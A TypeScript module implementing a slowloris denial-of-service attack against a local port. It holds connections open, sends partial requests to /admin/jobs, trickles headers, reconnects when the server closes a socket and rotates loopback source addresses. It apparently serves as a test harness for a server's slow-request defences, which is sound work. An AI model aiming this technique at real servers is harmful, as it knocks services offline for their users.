import { connect } from 'node:net';
import type { Socket } from 'node:net';

export interface SlowlorisOptions {
  /** Connections it tries to hold at once. */
  connections: number;
  /** After the server closes one, how long until it opens another, in ms. */
  reconnectMs?: number;
  /** How often a connection that started its request head sends one more header line, in ms. */
  trickleMs?: number;
  /** The local addresses to connect from, in turn (127.0.0.2 and up act as other machines on loopback). */
  from?: readonly string[];
}

/**
 * The slowloris attack: many anonymous connections that never finish a request. Half send
 * nothing at all; half send a request line and then one header line now and then. Each
 * connection the server closes is opened again, as the attack tool does.
 */
export function slowloris(port: number, options: SlowlorisOptions) {
  const sockets = new Set<Socket>();
  let running = true;
  const stats = { opened: 0, closedByServer: 0, open: () => sockets.size };

  const launch = (index: number) => {
    if (!running) return;
    const from = options.from?.[index % options.from.length];
    const socket = connect({ port, host: '127.0.0.1', ...(from ? { localAddress: from } : {}) });
    stats.opened += 1;
    sockets.add(socket);
    let trickle: NodeJS.Timeout | undefined;
    socket.on('error', () => undefined);
    socket.on('connect', () => {
      if (index % 2 === 0) return;
      socket.write(`GET /admin/jobs HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\n`);
      trickle = setInterval(() => socket.write(`X-Still-There: ${Date.now()}\r\n`), options.trickleMs ?? 5000);
    });
    socket.on('close', () => {
      clearInterval(trickle);
      sockets.delete(socket);
      if (!running) return;
      stats.closedByServer += 1;
      setTimeout(() => launch(index), options.reconnectMs ?? 100);
    });
  };
  for (let i = 0; i < options.connections; i++) launch(i);

  return {
    stats,
    stop() {
      running = false;
      for (const socket of sockets) socket.destroy();
    },
  };
}
